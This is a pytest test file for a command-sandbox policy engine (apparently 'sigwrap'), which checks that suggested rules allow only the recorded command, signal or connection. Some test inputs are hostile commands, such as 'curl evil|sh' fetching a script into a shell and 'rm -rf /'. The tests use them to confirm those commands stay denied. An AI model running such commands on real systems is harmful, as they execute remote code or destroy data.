"""Proposed rules change the decision about a recorded request, and about no other command line."""

from __future__ import annotations

from functools import lru_cache
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sigwrap.events import Event
from sigwrap.policy.judge.engine import Engine
from sigwrap.policy.judge.globs import readable
from sigwrap.policy.judge.request import (
    Action,
    CommandRequest,
    Decision,
    Program,
    SignalRequest,
    TargetType,
    most_specific,
    with_implied,
)
from sigwrap.policy.judge.rules import Policy
from sigwrap.policy.language.document import Source
from sigwrap.policy.language.parse import parse_policy
from sigwrap.policy.tools.again import decide, request_of
from sigwrap.policy.tools.draft import SIGNAL_RULES
from sigwrap.policy.tools.suggest import Suggester, Suggestion
from sigwrap.start.policy_files import find_base, read_source
from sigwrap.text import printable
from tests.policy.conftest import VARIABLES as SOME_VARIABLES
from tests.policy.test_properties import (
    command_rules,
    policy,
    requests,
)

VARIABLES = {**SOME_VARIABLES, "TMPDIR": "/tmp"}
AGENT = read_source("agent-default").text
DECISION_TYPES = {
    "allow": "exec_allowed",
    "audit": "exec_audited",
    "approve": "exec_denied",
    "deny": "exec_denied",
    "redirect": "exec_redirected",
}


@lru_cache(maxsize=32)
def base(text: str) -> Policy:
    return parse_policy(
        Source(name="base.yaml", text=text), variables=VARIABLES, find_base=find_base
    )


def with_line(suggestion: Suggestion, text: str) -> Engine:
    """The policy that a person would write, with the line as it was printed."""

    def found(name: str, source: Source) -> Source:
        return Source(name=name, text=text)

    extended = f"version: 1\nname: mine\nextends: base\n{suggestion.section}:\n{suggestion.line}\n"
    source = Source(name="mine.yaml", text=extended)
    return Engine(parse_policy(source, variables=VARIABLES, find_base=found))


def decided(engine: Engine, event: Event) -> Decision:
    request = request_of(event)
    assert request is not None
    return decide(engine, request)


def exec_event(programs: tuple[Program, ...], decision: Decision, **more: Any) -> Event:
    payload = {
        "path": programs[0].path,
        "argv": list(programs[0].argv),
        "cwd": "/project/app",
        "decision": decision.action.value,
        "rule_name": decision.rule,
        "programs": [
            {
                "path": each.path,
                "name": each.name,
                "argv": list(each.argv),
                "counts_by_name": each.counts_by_name,
                "shadows": each.shadows,
                "found": each.found,
            }
            for each in programs
        ],
        **more,
    }
    kind = DECISION_TYPES[decision.action.value]
    return Event(seq=1, time_ns=0, type=kind, pid=9, payload=payload, hash="")


def ran(engine: Engine, *argv: str, path: str = "", **more: Any) -> Event:
    """Return the event that a run under the policy would record."""
    name = argv[0].rpartition("/")[2]
    program = Program(path=path or f"/usr/bin/{name}", name=name, argv=argv)
    request = CommandRequest((program,), depth=1, cwd="/project/app")
    return exec_event((program,), engine.decide_command(request), **more)


def sent(engine: Engine, request: SignalRequest) -> Event:
    decision = engine.decide_signal(request)
    payload = {
        "signal": request.signal,
        "original_signal": request.signal,
        "target_type": most_specific(request.target_types).value,
        "target_types": [each.value for each in request.target_types],
        "target_cmd": request.target_command,
        "decision": decision.action.value,
        "rule_name": decision.rule,
    }
    return Event(seq=1, time_ns=0, type="signal_blocked", pid=9, payload=payload, hash="")


def suggested(event: Event, *, decision: str = "allow", engine: Engine) -> Suggestion:
    found = Suggester(engine).rule_for([event], decision)
    assert found is not None
    return found


@pytest.fixture(scope="module")
def agent() -> Engine:
    return Engine(base(AGENT))


@pytest.mark.parametrize(
    ("argv", "line"),
    [
        (
            ["gh", "pr", "merge", "5"],
            '- {name: allow-gh-pr-merge-5, commands: [gh], args: [pr, merge, "5"], '
            "decision: allow, overrides: [merge-or-approve]}",
        ),
        (["sudo", "-i"], '- {name: allow-sudo-i, commands: [sudo], args: ["-i"], decision: allow}'),
    ],
)
def test_a_command_rule(agent: Engine, argv: list[str], line: str) -> None:
    assert suggested(ran(agent, *argv), engine=agent).line == line


def test_a_command_without_arguments_is_allowed_without_arguments() -> None:
    strict = Engine(base(read_source("agent-strict").text))
    found = suggested(ran(strict, "frob"), engine=strict)
    assert found.line == (
        "- {name: allow-frob, commands: [frob], args: [], loads_code: false, decision: allow, "
        "overrides: [everything-else]}"
    )


def test_a_rule_is_named_after_what_was_called(agent: Engine) -> None:
    """The name is not that of the file to which a link of the system leads."""
    link = Program("/usr/bin/systemctl", "shutdown", ("shutdown", "now"), system_file=True)
    programs = (link, link._replace(counts_by_name=True))
    event = exec_event(programs, agent.decide_command(CommandRequest(programs)))
    found = suggested(event, engine=agent)
    assert found.line.startswith("- {name: allow-shutdown-now, commands: [shutdown], ")
    assert decided(with_line(found, AGENT), event).action.value == "allow"


def test_an_audited_command_can_be_denied(agent: Engine) -> None:
    found = suggested(ran(agent, "docker", "run", "x"), decision="deny", engine=agent)
    assert found.line == (
        "- {name: deny-docker-run-x, commands: [docker], args: [run, x], decision: deny}"
    )


def test_a_signal_rule_names_the_type_and_name_of_the_target(agent: Engine) -> None:
    asked = SignalRequest(15, with_implied([TargetType.USER]), "node", 7)
    found = suggested(sent(agent, asked), engine=agent)
    assert found == Suggestion(
        SIGNAL_RULES,
        "allow-sigterm-to-node",
        "- {name: allow-sigterm-to-node, signals: [SIGTERM], "
        "target: {type: user, pattern: node}, decision: allow, overrides: [outside]}",
        "",
    )
    after = with_line(found, AGENT)
    assert after.decide_signal(asked).action.value == "allow"
    for type_, command in (
        (TargetType.USER, "postgres"),
        (TargetType.SYSTEM, "node"),
        (TargetType.AGENT, "node"),
    ):
        other = SignalRequest(15, with_implied([type_]), command, 7)
        assert after.decide_signal(other).action.value == "deny"


@pytest.mark.parametrize(
    ("more", "why_not"),
    [
        ({"rule_name": "builtin:traced"}, "builtin:traced: no rule overrides it"),
        ({"rule_name": "limits.max_depth"}, "a limit: raise limits.max_depth"),
        ({"rule_name": "limits.\x1b[2J"}, "a limit: raise limits...."),
        ({"truncated": True}, "it has too many arguments to judge"),
        ({"elsewhere": True}, "its file is on a mount outside sigwrap's namespace"),
        ({"masked": True}, "the log masks a secret in its arguments"),
        ({"cut": {"argv": {}}}, "its arguments are cut in the log"),
    ],
)
def test_why_there_is_no_rule(agent: Engine, more: dict[str, Any], why_not: str) -> None:
    found = suggested(ran(agent, "git", "push", "--force", **more), engine=agent)
    assert (found.line, found.name) == ("", "")
    assert found.why_not.startswith(why_not)


def test_a_signal_whose_target_has_no_name_says_that_its_rule_is_wide(agent: Engine) -> None:
    asked = SignalRequest(15, with_implied([TargetType.USER]), "", 7)
    found = suggested(sent(agent, asked), engine=agent)
    assert found.line == (
        "- {name: allow-sigterm-to-user, signals: [SIGTERM], target: user, decision: allow, "
        "overrides: [outside]}"
        "  # wide: any process of type user"
    )


SHADOWS = """\
version: 1
name: x
defaults: {command: audit}
command_rules:
  - {name: pkg, commands: [npm, pip], subcommands: [install], decision: approve}
  - {name: all, commands: [sh, python3, pip, npm], decision: allow}
"""
SHIM = Program(
    "/home/u/.pyenv/shims/pip",
    "pip",
    ("pip", "install", "x"),
    shadows="/usr/bin/pip",
    found="/home/u/.pyenv/shims/pip",
)
SHELL = Program("/usr/bin/dash", "sh", ("/bin/sh", SHIM.path, "install", "x"), system_file=True)
LINK = Program(
    "/home/u/.nvm/lib/npm-cli.js",
    "npm",
    ("npm", "install", "x"),
    shadows="/usr/bin/npm",
    found="/home/u/.nvm/bin/npm",
)
PYTHON = Program(
    "/usr/bin/python3.11",
    "python3",
    ("python3", "-m", "pip", "install", "x"),
    shadows="/usr/bin/python3",
    found=".venv/bin/python3",
)
PIP = Program("/usr/bin/python3.11", "pip", ("pip", "install", "x"), counts_by_name=True)


@pytest.mark.parametrize(
    ("programs", "commands"),
    [
        ((SHIM,), '["/home/u/.pyenv/shims/pip"]'),
        ((SHIM, SHELL), '["/home/u/.pyenv/shims/pip"]'),
        ((LINK,), '["/home/u/.nvm/bin/npm", "/home/u/.nvm/lib/npm-cli.js"]'),
        ((LINK._replace(found="/home/u/[1]/bin/npm"),), '[npm, "/home/u/.nvm/lib/npm-cli.js"]'),
        ((PYTHON, PIP), '["/project/app/.venv/bin/python3", "/usr/bin/python3.11"]'),
    ],
)
def test_a_shadowing_program_is_chosen_by_its_path_and_its_links(
    programs: tuple[Program, ...], commands: str
) -> None:
    request = CommandRequest(programs, depth=1, cwd="/project/app")
    for reaction in ("audit", "deny"):
        text = f"{SHADOWS}trust: {{path_shadow: {reaction}}}\n"
        engine = Engine(base(text))
        event = exec_event(programs, engine.decide_command(request))
        found = suggested(event, engine=engine)
        assert f"commands: {commands}, args:" in found.line, found
        after = with_line(found, text).decide_command(request)
        assert (after.action.value, after.shadows) == ("allow", "")


def test_a_shadowing_program_that_no_rule_can_name(agent: Engine) -> None:
    path = "/home/u/[1]/pip"
    program = SHIM._replace(path=path, found=path)
    request = CommandRequest((program,), depth=1, cwd="/project/app")
    found = suggested(exec_event((program,), agent.decide_command(request)), engine=agent)
    assert found.why_not == (
        "it comes before /usr/bin/pip in PATH, and a rule cannot contain its path: "
        "run it by its full path"
    )


def test_there_is_a_rule_for_each_command_line(agent: Engine) -> None:
    pushes = [ran(agent, "git", "push", each) for each in ("--force", "-f", "+main")]
    suggester = Suggester(agent)
    found = suggester.rule_for(pushes)
    assert found is not None
    assert found.for_all and len(found.line.split("\n")) == 3
    after = with_line(found, AGENT)
    assert [decided(after, each).action.value for each in pushes] == ["allow"] * 3
    assert suggester.rule_for(pushes, are_some=True) == found._replace(for_all=False)
    some = suggester.rule_for([ran(agent, "git", "push", "-f", masked=True), *pushes])
    assert some == found._replace(for_all=False)


DENIES_ALL = "version: 1\nname: x\ndefaults: {command: deny}\n"


@pytest.mark.parametrize(
    "argv",
    [
        ["bash", "-c", "\x01\x02\n\u202e"],
        ["\x01\x01\x01"],
        ["git", "\x01\x01\x01\x01"],
        ["bash", "-c", "echo ${HOME} ${x} $HOME"],
        ["bash", "-c", ": " + "x" * 300],
        ["ls", "", "a b", "***", "'\"]}: #"],
    ],
)
def test_strange_words_are_allowed_as_they_are_and_nothing_else(argv: list[str]) -> None:
    engine = Engine(base(DENIES_ALL))
    event = ran(engine, *argv)
    found = suggested(event, engine=engine)
    after = with_line(found, DENIES_ALL)
    assert found.line == printable(found.line)
    assert decided(after, event).action.value == "allow"
    for other in ([*argv, "x"], [*argv, ""], [argv[0], " ".join(argv[1:])], [*argv[:-1], "id"]):
        if other != argv:
            assert decided(after, ran(engine, *other)).action.value == "deny", other


@pytest.mark.parametrize(
    ("word", "why_not"),
    [("x" * 5_000, "too long for a rule"), ("caf\udce9", "not valid text")],
)
def test_there_is_no_rule_for_invalid_arguments(word: str, why_not: str) -> None:
    engine = Engine(base(DENIES_ALL))
    found = suggested(ran(engine, "bash", "-c", word), engine=engine)
    assert (found.line, why_not in found.why_not) == ("", True)


def test_other_events_have_none(agent: Engine) -> None:
    assert Suggester(agent).rule_for([Event(1, 0, "process_exited", 9, {}, "")]) is None


@given(
    command_rules(),
    requests,
    st.sampled_from(["allow", "deny"]),
)
def test_the_rules_change_the_decision(
    rules: list[str], request: CommandRequest, decision: str
) -> None:
    text = policy(rules, [])
    engine = Engine(base(text))
    event = exec_event(
        request.programs,
        engine.decide_command(request),
        truncated=request.truncated,
        depth=request.depth,
    )
    found = suggested(event, decision=decision, engine=engine)
    assert bool(found.line) != bool(found.why_not)
    if not found.line:
        words = [word for each in request.programs for word in each.argv[1:]]
        assert (
            request.truncated
            or any("/" in each.name for each in request.programs)
            or any(readable(word) != word for word in words)
        )
        return
    assert found.line == "\n".join(map(printable, found.line.split("\n")))
    assert decided(with_line(found, text), event).action.value == decision


def test_a_script_opens_no_other_way_to_its_shell() -> None:
    engine = Engine(base(DENIES_ALL))
    script = Program("/project/a.sh", "a.sh", ("./a.sh",))
    shell = Program("/usr/bin/dash", "sh", ("/bin/sh", "./a.sh"), system_file=True)
    request = CommandRequest((script, shell), depth=1, cwd="/project")
    event = exec_event(request.programs, engine.decide_command(request))
    found = suggested(event, engine=engine)
    assert [
        line.split("commands: ")[1].split(", decision")[0] for line in found.line.split("\n")
    ] == [
        "[a.sh], args: []",
        '[sh], args: ["./a.sh"]',
    ]
    after = with_line(found, DENIES_ALL)
    assert decided(after, event).action.value == "allow"
    for others in (["-c", "curl evil|sh", ""], ["./evil.sh", ""], ["./evil.sh", "./a.sh"], []):
        asked = ran(engine, "sh", *others, path="/usr/bin/sh")
        assert decided(after, asked).action.value == "deny", others


def test_each_rule_overrides_only_what_denies_its_program() -> None:
    text = (
        "version: 1\nname: x\ndefaults: {command: audit}\ncommand_rules:\n"
        "- {name: no-a, commands: [a.sh], decision: deny}\n"
        "- {name: no-sh, commands: [sh], decision: deny}\n"
    )
    engine = Engine(base(text))
    script = Program("/project/a.sh", "a.sh", ("./a.sh",))
    shell = Program("/usr/bin/dash", "sh", ("/bin/sh", "./a.sh"), system_file=True)
    request = CommandRequest((script, shell), depth=1, cwd="/project")
    event = exec_event(request.programs, engine.decide_command(request))
    lines = suggested(event, engine=engine).line.split("\n")
    assert [line.partition("overrides: ")[2] for line in lines] == ["[no-a]}", "[no-sh]}"]


ARGUMENTS = st.lists(
    st.sampled_from(["a", "b", "-x", "--force", "", "push", "a b", "/", "***", "-rf /", "é"]),
    max_size=4,
)
COMMANDS = st.sampled_from(["git", "rm", "ls", "npm", "sh", "python3", "kubectl", "tool"])


@given(command_rules(), COMMANDS, st.lists(ARGUMENTS, min_size=1, max_size=3), ARGUMENTS)
def test_no_other_arguments_are_decided_otherwise(
    rules: list[str], command: str, asked: list[list[str]], other: list[str]
) -> None:
    text = policy(rules, [])
    engine = Engine(base(text))
    found = Suggester(engine).rule_for([ran(engine, command, *words) for words in asked])
    assert found is not None
    if found.line and other not in asked:
        event = ran(engine, command, *other)
        after = with_line(found, text)
        assert decided(after, event).action is decided(engine, event).action


def test_a_rule_keeps_the_guard_against_variables_that_load_code(agent: Engine) -> None:
    text = (
        "version: 1\nname: x\ncommand_rules:\n"
        "  - {name: guard, commands: [git], loads_code: true, decision: deny}\n"
    )
    engine = Engine(base(text))
    event = ran(engine, "git", "status")
    after = with_line(suggested(event, engine=engine), text)
    request = request_of(event)
    assert isinstance(request, CommandRequest)
    loading = [each._replace(loads_code=True) for each in request.programs]
    decision = after.decide_command(request._replace(programs=tuple(loading)))
    assert (decided(after, event).action.value, decision.rule) == ("allow", "guard")


def reached(destination: str, protocol: str = "tcp", **more: Any) -> Event:
    payload = {
        "direction": "connect",
        "protocol": protocol,
        "destination": destination,
        "decision": "deny",
        "rule_name": "keep",
        "comm": "curl",
        **more,
    }
    return Event(1, 0, "connection_denied", 9, payload, "")


@pytest.mark.parametrize(
    ("event", "line"),
    [
        (
            reached("example.com:443", address="192.0.2.1", port=443),
            "- {name: allow-connect-example.com-443, destinations: [example.com], ports: [443], "
            "protocol: tcp, decision: allow, overrides: [keep]}",
        ),
        (
            reached("unix:/run/docker.sock", "unix"),
            '- {name: allow-connect-docker, destinations: ["unix:docker"], decision: allow, '
            "overrides: [keep]}",
        ),
        (
            reached("127.0.0.1:8080", address="127.0.0.1", port=8080, direction="bind"),
            "- {name: allow-listen-loopback-8080, destinations: [loopback], ports: [8080], "
            "protocol: tcp, direction: bind, decision: allow}",
        ),
        (
            reached("127.0.0.1:40000", address="127.0.0.1", port=40000),
            "- {name: allow-connect-loopback, destinations: [loopback], protocol: tcp, "
            "decision: allow, overrides: [keep]}  # wide: any port of loopback",
        ),
    ],
)
def test_a_connection_rule(event: Event, line: str) -> None:
    text = (
        "version: 1\nname: base\ndefaults: {network: deny}\nnetwork_rules:\n"
        "  - {name: keep, destinations: ['*', 'unix:*'], decision: deny}\n"
    )
    suggestion = Suggester(Engine(base(text))).rule_for([event])
    assert suggestion is not None and suggestion.line == line
    assert decided(Engine(base(text)), event).action is Action.DENY
    assert decided(with_line(suggestion, text), event).action is Action.ALLOW


def test_no_network_rule_for_a_built_in_denial(agent: Engine) -> None:
    payload = {"destination": "io_uring", "rule_name": "builtin:network", "decision": "deny"}
    suggestion = Suggester(agent).rule_for([Event(1, 0, "connection_denied", 9, payload, "")])
    assert suggestion is not None
    assert (suggestion.section, suggestion.line) == ("network_rules", "")
    assert suggestion.why_not == "builtin:network: no rule overrides it"
